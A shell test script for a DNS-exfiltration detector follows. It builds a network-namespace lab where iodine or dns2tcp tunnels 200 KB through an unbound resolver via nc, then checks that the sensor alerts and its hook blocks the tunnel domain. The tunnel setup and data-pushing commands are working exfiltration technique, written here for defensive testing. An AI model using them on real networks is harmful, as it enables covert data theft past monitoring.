#!/bin/sh
# tunnel_lab.sh BIN HOOK [iodine|dns2tcp]
# End to end on a real tunnel: a client namespace, a resolver namespace running unbound that
# delegates t.tunnel.test to a tunnel-server namespace running iodined (or dns2tcpd), like the
# internet would; the client runs iodine (dns2tcpc) through the resolver and pushes 200 KB with
# nc, plus benign
# lookups of www.corp.example. The client's DNS is mirrored with tc into a Linux vxlan device
# (VNI 123) whose underlay reaches a sensor namespace, where dnsexfild runs live with the
# unbound-block hook. Asserts: a HIGH or CRITICAL alert for tunnel.test and none for
# corp.example; the hook blocks the apex in the resolver, the tunnel's queries then get
# NXDOMAIN and the transfer stops short; benign lookups keep resolving. Prints the latency
# from the threshold-crossing packet to the hook, the bytes moved before the block and the
# alert's est_bytes. Skips (77) without namespaces, /dev/net/tun, iodine, unbound or nc.
set -u
. "$(dirname "$0")/../unbound_conf.sh"
. "$(dirname "$0")/../netns.sh"
bin=$(cd "$(dirname "$1")" && pwd)/$(basename "$1")
hook=$(cd "$(dirname "$2")" && pwd)/$(basename "$2")
tool=${3:-iodine}
case $tool in
iodine) need="iodine iodined" ;;
dns2tcp) need="dns2tcpc dns2tcpd" ;;
*) echo "usage: tunnel_lab.sh BIN HOOK [iodine|dns2tcp]"; exit 2 ;;
esac
for t in ip tc unbound unbound-control nc dig sqlite3 $need; do
	command -v $t >/dev/null 2>&1 || { echo "SKIP: $t not installed"; exit 77; }
done
[ -c /dev/net/tun ] || { echo "SKIP: no /dev/net/tun"; exit 77; }
id=$(( $$ % 10000 ))
cli=dxecli$id res=dxeres$id srv=dxesrv$id sen=dxesen$id
ns_lab $cli $res $srv $sen
set -e
pair $cli c0 10.80.0.2 $res r0 10.80.0.1
pair $res r1 10.81.0.1 $srv s0 10.81.0.2
pair $cli m0 10.82.0.1 $sen m1 10.82.0.2
ip -n $srv route add 10.80.0.0/24 via 10.81.0.1
ip netns exec $res sysctl -qw net.ipv4.ip_forward=1
ip -n $cli link add vx type vxlan id 123 dstport 4789 local 10.82.0.1 remote 10.82.0.2 dev m0
ip -n $cli link set vx up
ip netns exec $cli tc qdisc add dev c0 clsact
ip netns exec $cli tc filter add dev c0 egress protocol all u32 match u32 0 0 action mirred egress mirror dev vx
ip netns exec $cli tc filter add dev c0 ingress protocol all u32 match u32 0 0 action mirred egress mirror dev vx
set +e

{ unbound_server "$dir" 10.80.0.1 53 10.80.0.0/24; cat <<CONF
	module-config: "iterator"
	qname-minimisation: no
	do-not-query-localhost: no
	harden-referral-path: no
	local-zone: "corp.example." static
	local-data: "www.corp.example. 60 IN A 10.0.0.1"
	local-data: "mail.corp.example. 60 IN A 10.0.0.2"
	domain-insecure: "tunnel.test."
	local-zone: "test." nodefault # unbound answers RFC 6761 .test itself by default
stub-zone:
	name: "t.tunnel.test."
	stub-addr: 10.81.0.2
remote-control:
	control-enable: yes
	control-interface: "$dir/unbound.ctl"
	control-use-cert: no
CONF
} >"$dir/unbound.conf"
ip netns exec $res unbound -d -c "$dir/unbound.conf" &
echo $! >"$dir/unbound.pid"
if [ $tool = iodine ]; then
	ip netns exec $srv iodined -f -c -P dxlabpass -l 10.81.0.2 10.99.0.1/24 t.tunnel.test >"$dir/server.log" 2>&1 &
else
	cat >"$dir/dns2tcpd.conf" <<CONF
listen = 10.81.0.2
port = 53
user = nobody
chroot = /tmp
domain = t.tunnel.test
resources = data:10.81.0.2:9000
CONF
	ip netns exec $srv dns2tcpd -F -f "$dir/dns2tcpd.conf" >"$dir/server.log" 2>&1 &
fi
echo $! >"$dir/server.pid"
for i in $(seq 50); do
	[ "$(ip netns exec $cli dig +short +tries=1 +time=1 @10.80.0.1 www.corp.example)" = 10.0.0.1 ] && break
	sleep 0.2
done

printf '[store]\nstats_interval_sec = 3600\n' >"$dir/sensor.ini"

UNBOUND_CONTROL_CONF="$dir/unbound.conf" ip netns exec $sen "$bin" -c "$dir/sensor.ini" -i m1 \
	-d "$dir/e2e.db" --hook "$hook" -w "$dir/mirror.pcap" >"$dir/sensor.out" 2>"$dir/sensor.err" &
echo $! >"$dir/sensor.pid"
# the same traffic seen without mirroring: a second sensor on the resolver's client-facing
# veth (no hook: one hook is enough); the mirror sensor writes what it read (-w) for the replay
ip netns exec $res "$bin" -c "$dir/sensor.ini" -i r0 -d "$dir/direct.db" >/dev/null 2>"$dir/direct.err" &
echo $! >"$dir/direct.pid"

sleep 1

# benign lookups in the background, all along
( for i in $(seq 120); do
	ip netns exec $cli dig +short +tries=1 +time=1 @10.80.0.1 www.corp.example >>"$dir/benign.out" 2>&1
	sleep 0.25
done ) &
echo $! >"$dir/benign.pid"

head -c 204800 /dev/urandom >"$dir/send.bin"
if [ $tool = iodine ]; then
	ip netns exec $cli iodine -f -P dxlabpass -r 10.80.0.1 t.tunnel.test >"$dir/client.log" 2>&1 &
	echo $! >"$dir/client.pid"
	for i in $(seq 100); do
		ip netns exec $cli ip addr show dns0 2>/dev/null | grep -q 10.99.0 && break
		sleep 0.2
	done
	ip netns exec $srv sh -c "nc -l 10.99.0.1 9000 >'$dir/recv.bin'" &
	echo $! >"$dir/nc.pid"
	sleep 0.5
	ip netns exec $cli timeout 40 nc -q 2 10.99.0.1 9000 <"$dir/send.bin" 2>>"$dir/nc.err"
else
	ip netns exec $srv sh -c "nc -l 10.81.0.2 9000 >'$dir/recv.bin'" &
	echo $! >"$dir/nc.pid"
	ip netns exec $cli dns2tcpc -z t.tunnel.test -r data -l 4000 10.80.0.1 >"$dir/client.log" 2>&1 &
	echo $! >"$dir/client.pid"
	sleep 1
	ip netns exec $cli timeout 40 nc -q 2 127.0.0.1 4000 <"$dir/send.bin" 2>>"$dir/nc.err"
fi
sleep 3
fails=0
ok() { echo "ok   $*"; }
bad() { echo "FAIL $*"; fails=$((fails + 1)); }
for p in sensor direct; do kill "$(cat "$dir/$p.pid")" 2>/dev/null; done
for p in sensor direct; do wait "$(cat "$dir/$p.pid")" 2>/dev/null; done
hi=$(sqlite3 "$dir/e2e.db" "select count(*) from alerts where apex = 'tunnel.test' and severity in ('HIGH','CRITICAL')")
[ "${hi:-0}" -ge 1 ] && ok "HIGH/CRITICAL alert for tunnel.test" || { bad "no HIGH alert"; tail -20 "$dir/sensor.err"; tail -5 "$dir/client.log"; }
ben=$(sqlite3 "$dir/e2e.db" "select count(*) from alerts where apex = 'corp.example' and severity in ('HIGH','CRITICAL')")
[ "${ben:-0}" -eq 0 ] && ok "none for the benign lookups" || bad "benign apex alerted"
st=$(sqlite3 "$dir/e2e.db" "select group_concat(domain||':'||state, ' ') from blocks where action = 'add'")
[ "$st" = "tunnel.test:done *.tunnel.test:done" ] && ok "blocked in the resolver by the hook ($st)" || bad "blocks: $st"
lat=$(sqlite3 "$dir/e2e.db" "select round(max(latency_ms), 1) from blocks where action = 'add'")
est=$(sqlite3 "$dir/e2e.db" "select max(est_bytes) from alerts where apex = 'tunnel.test'")
got=$(wc -c <"$dir/recv.bin" 2>/dev/null || echo 0)
echo "     threshold packet to hook exec: $lat ms; bytes through the tunnel before it was cut: $got of 204800; alert est_bytes: $est"
[ "$got" -lt 204800 ] && ok "the transfer stopped short" || bad "the whole file went through"
nx=$(ip netns exec $cli dig +tries=1 +time=2 @10.80.0.1 "x$id.t.tunnel.test" NULL | sed -n 's/.*status: \([A-Z]*\).*/\1/p')
[ "$nx" = NXDOMAIN ] && ok "tunnel names now get NXDOMAIN" || bad "tunnel names: $nx"
[ "$(ip netns exec $cli dig +short +tries=1 +time=2 @10.80.0.1 www.corp.example)" = 10.0.0.1 ] && ok "benign lookups keep resolving" || bad "benign lookups broken"
[ $tool = iodine ] && echo "     $tool said: $(grep -iE "nxdomain|error|fail|giving up|no reply|timeout|connection" "$dir/client.log" | tail -2 | tr "\n" " ")"
# iodine says so; dns2tcpc just goes quiet (the short file above is the evidence)
if [ $tool = iodine ]; then
	grep -qiE "nxdomain|error|fail|giving up|no reply|timeout|exiting" "$dir/client.log" && ok "the $tool client reports the failure" || { bad "$tool reported nothing"; tail -5 "$dir/client.log"; }
fi
# the alerts: live via the mirror, live without it, and the mirror's capture replayed
q="select apex || ' ' || threat_type || ' ' || severity from alerts where severity in ('HIGH', 'CRITICAL') order by 1"
live=$(sqlite3 "$dir/e2e.db" "$q")
direct=$(sqlite3 "$dir/direct.db" "$q")
"$bin" -q -r "$dir/mirror.pcap" -d "$dir/replay.db" 2>"$dir/replay.err"
replay=$(sqlite3 "$dir/replay.db" "$q")
[ -n "$live" ] && [ "$live" = "$direct" ] && ok "without mirroring (on the resolver's veth): the same alerts" || bad "direct differs: [$live] [$direct]"
q2="select apex, threat_type, severity, first_ts, detected_ts, query_count, unique_subdomains, est_bytes from alerts order by id"
[ "$(sqlite3 "$dir/e2e.db" "$q2")" = "$(sqlite3 "$dir/replay.db" "$q2")" ] && ok "the run's capture replayed offline gives the same alert rows" || { bad "replay differs"; sqlite3 "$dir/e2e.db" "$q2"; echo ---; sqlite3 "$dir/replay.db" "$q2"; }
echo "e2e $tool: $fails failed"
[ $fails -eq 0 ]
